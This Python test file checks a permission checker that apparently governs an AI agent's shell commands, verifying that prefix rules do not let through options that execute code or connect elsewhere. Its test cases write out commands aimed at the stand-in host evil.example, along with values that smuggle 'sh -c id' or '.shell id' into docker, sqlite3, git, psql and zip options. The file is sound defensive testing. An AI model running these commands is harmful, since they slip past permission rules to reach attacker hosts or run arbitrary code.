"""The analysis reads the option table: under a prefix rule, an option that runs, names a program,
loads configuration or connects elsewhere needs a rule that spells it and its value out, however
it is written; the denial suggests no rule that contains the value."""

from __future__ import annotations

import pytest

from bot.permissions.decision import Allow
from bot.shell.parse.syntax import literal
from bot.shell.programs.options.lookup import table_facts
from tests.shell.conftest import Check


@pytest.mark.parametrize(
    ("description", "command", "allow", "allowed"),
    [
        ("docker -H under docker's prefix rule", "docker -H tcp://evil.example:2375 ps", ["Bash(docker:*)"], False),
        ("docker --host= attached", "docker --host=tcp://evil.example:2375 ps", ["Bash(docker:*)"], False),
        ("docker abbreviated --ho", "docker --ho tcp://evil.example:2375 ps", ["Bash(docker:*)"], False),
        ("docker ps", "docker ps", ["Bash(docker:*)"], True),
        # subcommand options, from `docker run --help` (read after the program's own options)
        ("docker run --health-cmd", "docker run --health-cmd 'sh -c id' alpine", ["Bash(docker run:*)"], False),
        ("docker -H then run", "docker -H tcp://evil.example:2375 run alpine", ["Bash(docker run:*)"], False),
        (
            "docker run --hostname is the container's",
            "docker run --rm --hostname ci alpine true",
            ["Bash(docker run:*)"],
            True,
        ),
        ("docker ps --filter", "docker ps --filter status=exited", ["Bash(docker ps:*)"], True),
        ("pip install --trusted-host", "pip install --trusted-host evil.example x", ["Bash(pip install:*)"], False),
        ("pip download -i", "pip download -i https://evil.example/simple x", ["Bash(pip download:*)"], False),
        ("kubectl kustomize --helm-command", "kubectl kustomize --helm-command ./evil .", ["Bash(kubectl:*)"], False),
        (
            "kubectl get --template formats",
            "kubectl get pods --template '{{.metadata.name}}'",
            ["Bash(kubectl get:*)"],
            True,
        ),
        (
            "kubectl boolean flag before the subcommand",
            "kubectl --insecure-skip-tls-verify get pods",
            ["Bash(kubectl:*)"],
            True,
        ),
        (
            "docker -H spelled out",
            "docker -H unix:///run/user/docker.sock ps",
            ["Bash(docker -H unix:///run/user/docker.sock:*)"],
            True,
        ),
        (
            "kubectl --kubeconfig outside the workspace",
            "kubectl --kubeconfig /tmp/evil/config get pods",
            ["Bash(kubectl get:*)"],
            False,
        ),
        (
            "kubectl --kubeconfig in the workspace is the project's file",
            "kubectl --kubeconfig ./ci/kubeconfig get pods",
            ["Bash(kubectl:*)"],
            True,
        ),
        ("kubectl --context", "kubectl --context prod get pods", ["Bash(kubectl:*)"], False),
        ("kubectl --server", "kubectl -s https://evil.example get pods", ["Bash(kubectl:*)"], False),
        ("psql -c under psql's prefix rule", "psql -c '\\! id'", ["Bash(psql:*)"], False),
        ("sqlite3 -cmd runs a dot-command", "sqlite3 -cmd '.shell id' db.sqlite", ["Bash(sqlite3:*)"], False),
        ("sqlite3 reading a database", "sqlite3 db.sqlite 'select 1'", ["Bash(sqlite3:*)"], True),
        ("git grep -O opens the matches in a pager command", "git grep -O'sh -c id' foo", ["Bash(git grep:*)"], False),
        ("git grep", "git grep -n foo", ["Bash(git grep:*)"], True),
        ("git difftool -x", "git difftool -x 'sh -c id' HEAD", ["Bash(git difftool:*)"], False),
        (
            "git clone --template loads hooks",
            "git clone --template=/tmp/t https://example.com/r.git sub/r",
            ["Bash(git clone:*)"],
            False,
        ),
        ("mvn -s settings from outside the workspace", "mvn -s /tmp/evil.xml test", ["Bash(mvn:*)"], False),
        ("zip -TT bundled after -T", "zip -T -TT 'sh -c id' a.zip src", ["Bash(zip:*)"], False),
        ("pip --proxy", "pip --proxy evil.example:3128 download x", ["Bash(pip download:*)"], False),
        ("an option after -- is an argument", "grep -- --context x.txt", ["Bash(grep:*)"], True),
    ],
)
def test_an_executing_option_needs_a_rule_that_spells_it_out(
    check: Check, description: str, command: str, allow: list[str], allowed: bool
) -> None:
    result = check(command, allow=[*allow, "Edit"])
    assert isinstance(result, Allow) is allowed, (description, result)


def test_the_denial_suggests_no_rule_containing_the_executing_value(check: Check) -> None:
    result = check("docker -H tcp://evil.example:2375 ps", allow=["Bash(docker:*)"])
    assert not isinstance(result, Allow)
    assert "docker -H" in result.reason and "option table" in result.reason
    assert not any("evil" in s for s in result.suggestions)


def test_launchers_and_interpreters_are_left_to_their_own_modules() -> None:
    assert table_facts([literal(w) for w in ("python3", "-c", "print(1)")]) is None
    assert table_facts([literal(w) for w in ("timeout", "5", "tar", "-I", "x")]) is None
    found = table_facts([literal(w) for w in ("tar", "-xI", "sh -c id", "-f", "a.tar")])
    assert found is not None and found.explicit[0][0] == 2
